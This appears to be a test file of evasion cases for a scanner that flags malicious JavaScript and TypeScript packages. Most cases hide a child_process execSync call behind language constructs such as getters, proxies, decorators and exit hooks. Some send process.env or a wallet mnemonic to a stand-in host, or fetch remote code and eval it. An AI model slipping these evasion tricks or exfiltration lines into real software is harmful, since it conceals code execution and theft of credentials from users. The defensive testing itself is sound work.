"""Constructs of the language that run something on the side, in JavaScript, TypeScript and JSX."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion_javascript.case import HIGH, MEDIUM, Case

CONSTRUCTS = (
    Case("TypeScript: an import that is assigned", "STDLIB-001", MEDIUM, r"""
        import cp = require("child_process");
        (cp.execSync as Function)("id");
    """, "index.ts"),
    Case("TypeScript: types around everything", "STDLIB-001", MEDIUM, r"""
        import type { ExecException } from "child_process";
        import * as cp from "child_process";
        const go: (line: string) => unknown = <any>(cp as any)!.execSync;
        go("id" satisfies string);
    """, "index.ts"),
    Case("TypeScript: a name of an enumeration", "STR-001 DYN-005 STDLIB-001", HIGH, r"""
        enum Part { A = "exec", B = "Sync" }
        (require("child_process") as any)[Part.A + Part.B]("id");
    """, "index.ts"),
    Case("TypeScript: a namespace", "STDLIB-001", MEDIUM, r"""
        namespace Tools { export const run = (line: string) => require("child_process").execSync(line); }
        Tools.run("id");
    """, "index.ts"),
    Case("TypeScript: properties of a constructor", "EXFIL-001", HIGH, r"""
        class Client {
          constructor(private readonly url: string, public data: NodeJS.ProcessEnv = process.env) {}
          async send(): Promise<void> { await fetch(this.url, { method: "POST", body: JSON.stringify(this.data) }); }
        }
        void new Client("https://example.invalid/a").send();
    """, "index.ts"),
    Case("TypeScript: generics and abstract classes", "FETCH-001", HIGH, r"""
        abstract class Base<T extends string> {
          abstract load(): Promise<T>;
          async start(): Promise<void> { eval(await this.load()); }
        }
        class Child extends Base<string> {
          override async load(): Promise<string> { return (await fetch("https://example.invalid/a")).text(); }
        }
        new Child().start();
    """, "index.mts"),
    Case("TypeScript: decorators", "STDLIB-001", MEDIUM, r"""
        import { execSync } from "node:child_process";
        function run(line: string) { return function <T extends new (...a: any[]) => object>(target: T): T { execSync(line); return target; }; }
        @run("id")
        class Service {}
    """, "index.ts"),
    Case("TypeScript: CommonJS", "ENC-001", HIGH, r"""
        const code: string = Buffer.from("<B64>" as const, "base64").toString();
        (0, eval)(code);
        export = {};
    """, "index.cts"),
    Case("JSX: an attribute", "STDLIB-001", MEDIUM, r"""
        import React from "react";
        import { execSync } from "child_process";
        export default <div title={execSync("id").toString()}>a</div>;
    """, "index.jsx"),
    Case("JSX: a component that fetches", "FETCH-001", HIGH, r"""
        import { useEffect } from "react";
        export function Banner() {
          useEffect(() => { fetch("https://example.invalid/a").then((r) => r.text()).then((t) => eval(t)); }, []);
          return <b>a</b>;
        }
    """, "index.jsx"),
    Case("TSX: a component that sends storage", "EXFIL-001 STEAL-001", HIGH, r"""
        export const Wallet = ({ mnemonic }: { mnemonic: string }) => {
          navigator.sendBeacon("https://example.invalid/a", mnemonic);
          return <input value={mnemonic} />;
        };
    """, "index.tsx"),
    Case("a static block", "STDLIB-001", MEDIUM, r"""
        class Setup { static { require("child_process").execSync("id"); } }
    """),
    Case("a field of a class", "STDLIB-001", MEDIUM, r"""
        class Setup { #out = require("child_process").execSync("id"); }
        new Setup();
    """),
    Case("a private method", "STDLIB-001", MEDIUM, r"""
        class Setup { #run() { require("child_process").execSync("id"); } static start() { new Setup().#run(); } }
        Setup.start();
    """),
    Case("a computed method", "STDLIB-001", MEDIUM, r"""
        const key = Symbol("a");
        ({ [key](line) { require("child_process").execSync(line); } })[key]("id");
    """),
    Case("super", "STDLIB-001", MEDIUM, r"""
        class Base { run(line) { return require("child_process").execSync(line); } }
        class Child extends Base { run() { return super.run("id"); } }
        new Child().run();
    """),
    Case("a prototype", "STDLIB-001", MEDIUM, r"""
        function Runner(line) { this.line = line; }
        Runner.prototype.run = function () { require("child_process").execSync(this.line); };
        new Runner("id").run();
    """),
    Case("a prototype of arrays", "STDLIB-001", MEDIUM, r"""
        Array.prototype.run = function () { return require("child_process").execSync(this.join(" ")); };
        ["sh", "-c", "id"].run();
    """),
    Case("a getter as a trigger", "STDLIB-001", MEDIUM, r"""
        const trap = { get value() { return require("child_process").execSync("id"); } };
        trap.value;
    """),
    Case("a setter as a trigger", "STDLIB-001", MEDIUM, r"""
        const trap = { set line(value) { require("child_process").execSync(value); } };
        trap.line = "id";
    """),
    Case("toString as a trigger", "STDLIB-001", MEDIUM, r"""
        `${{ toString() { return require("child_process").execSync("id"); } }}`;
    """),
    Case("an iterator as a trigger", "STDLIB-001", MEDIUM, r"""
        const trap = { *[Symbol.iterator]() { yield require("child_process").execSync("id"); } };
        [...trap];
    """, unseen="iterators that objects of the package bring are not called"),
    Case("a thenable as a trigger", "STDLIB-001", MEDIUM, r"""
        (async () => { await { then(done) { done(require("child_process").execSync("id")); } }; })();
    """),
    Case("a proxy's trap", "STDLIB-001", MEDIUM, r"""
        new Proxy({}, { get(_, name) { return require("child_process").execSync(name); } }).id;
    """),
    Case("a default of a parameter", "STDLIB-001", MEDIUM, r"""
        (function (out = require("child_process").execSync("id")) {})();
    """),
    Case("a default of a pattern", "STDLIB-001", MEDIUM, r"""
        const { out = require("child_process").execSync("id") } = {};
    """),
    Case("a function called at once", "STDLIB-001", MEDIUM, r"""
        !function () { require("child_process").execSync("id"); }();
    """),
    Case("an asynchronous function called at once", "STDLIB-001", MEDIUM, r"""
        void (async () => { await null; require("child_process").execSync("id"); })();
    """),
    Case("a generator that is asked once", "STDLIB-001", MEDIUM, r"""
        function* steps() { yield 1; require("child_process").execSync("id"); yield 2; }
        const step = steps();
        step.next();
        step.next();
    """),
    Case("an exception as the road", "STDLIB-001", MEDIUM, r"""
        try { throw { run: require("child_process").execSync }; } catch ({ run }) { run("id"); }
    """),
    Case("in the end of a try", "STDLIB-001", MEDIUM, r"""
        try { null.a; } catch { } finally { require("child_process").execSync("id"); }
    """),
    Case("at the end of a chain of promises", "STDLIB-001", MEDIUM, r"""
        Promise.reject(new Error("id")).catch((error) => error.message).finally(() => {}).then((line) => require("child_process").execSync(line));
    """),
    Case("on the next tick", "STDLIB-001", MEDIUM, r"""
        process.nextTick(require("child_process").execSync, "id");
    """),
    Case("after a while", "STDLIB-001", MEDIUM, r"""
        setTimeout((cp) => cp.execSync("id"), 9e5, require("child_process"));
    """),
    Case("a timer's promise", "STDLIB-001", MEDIUM, r"""
        import { setTimeout as wait } from "node:timers/promises";
        import cp from "node:child_process";
        await wait(9e5);
        cp.execSync("id");
    """, "index.mjs"),
    Case("when the process ends", "STDLIB-001", MEDIUM, r"""
        process.on("exit", () => require("child_process").execSync("id"));
    """),
    Case("an event that is sent to itself", "STDLIB-001", MEDIUM, r"""
        const bus = new (require("events"))();
        bus.once("go", (line) => require("child_process").execSync(line));
        bus.emit("go", "id");
    """),
    Case("a callback of sort", "STDLIB-001", MEDIUM, r"""
        ["id", "a"].sort((a) => require("child_process").execSync(a) && 0);
    """),
    Case("a callback of replace", "STDLIB-001", MEDIUM, r"""
        "id".replace(/id/, require("child_process").execSync);
    """),
    Case("recursion", "STDLIB-001", MEDIUM, r"""
        const dig = (n) => (n ? dig(n - 1) : require("child_process").execSync("id"));
        dig(5);
    """),
    Case("currying", "STDLIB-001", MEDIUM, r"""
        const run = (name) => (method) => (...rest) => require(name)[method](...rest);
        run("child_process")("execSync")("id");
    """),
    Case("a pipe of functions", "STDLIB-001", MEDIUM, r"""
        const pipe = (...steps) => (value) => steps.reduce((all, step) => step(all), value);
        pipe(require, (cp) => cp.execSync, (go) => go("id"))("child_process");
    """),
    Case("logical assignment", "STDLIB-001", MEDIUM, r"""
        let go = null;
        go ??= require("child_process").execSync;
        go &&= go("id");
    """),
    Case("a label and a break", "STDLIB-001", MEDIUM, r"""
        out: { if (!module.parent && false) break out; require("child_process").execSync("id"); }
    """),
    Case("hoisted", "STDLIB-001", MEDIUM, r"""
        var cp = require("child_process");
        go();
        function go() { cp.execSync(line); }
        var line = "id";
    """),
    Case("a name that stands twice", "STDLIB-001", MEDIUM, r"""
        let run = console.log;
        { let run = require("child_process").execSync; run("id"); }
        run("a");
    """),
    Case("live bindings of another module", "STDLIB-001", MEDIUM, r"""
        import { run, arm } from "./lib/tools.mjs";
        arm();
        run("id");
    """, "index.mjs", {"lib/tools.mjs": 'import { execSync } from "child_process";\nexport let run = console.log;\nexport function arm() { run = execSync; }\n'}),
    Case("a global that another file uses", "STDLIB-001", MEDIUM, r"""
        global.go = require("child_process").execSync;
        require("./lib/a");
    """, files={"lib/a.js": 'go("id");\n'}),
    Case("a function that is passed over first", "STDLIB-001", MEDIUM, r"""
        const run = (wanted) => { if (wanted) require("child_process").execSync("id"); };
        run(false);
        run(true);
    """),
    Case("modules that load one another", "STDLIB-001", MEDIUM, r"""
        exports.line = "id";
        require("./lib/a").start();
    """, files={"lib/a.js": 'const main = require("..");\nexports.start = () => require("child_process").execSync(main.line);\n'}),
    Case("a weak map", "STDLIB-001", MEDIUM, r"""
        const kept = new WeakMap(), key = {};
        kept.set(key, require("child_process"));
        kept.get(key).execSync("id");
    """),
    Case("a property that is defined", "STDLIB-001", MEDIUM, r"""
        const holder = Object.create(null, { go: { value: require("child_process").execSync } });
        holder.go("id");
    """),
    Case("an object that is frozen", "STDLIB-001", MEDIUM, r"""
        const tools = Object.freeze({ deep: { cp: require("child_process") } });
        const { deep: { cp } } = structuredClone ? tools : {};
        cp.execSync("id");
    """),
    Case("a do loop", "STDLIB-001", MEDIUM, r"""
        let left = 1;
        do { require("child_process").execSync("id"); } while (--left);
    """),
    Case("an old loop over arguments", "STDLIB-001", MEDIUM, r"""
        (function () { for (var i = 0; i < arguments.length; i++) require("child_process").execSync(arguments[i]); })("id");
    """),
)  # fmt: skip
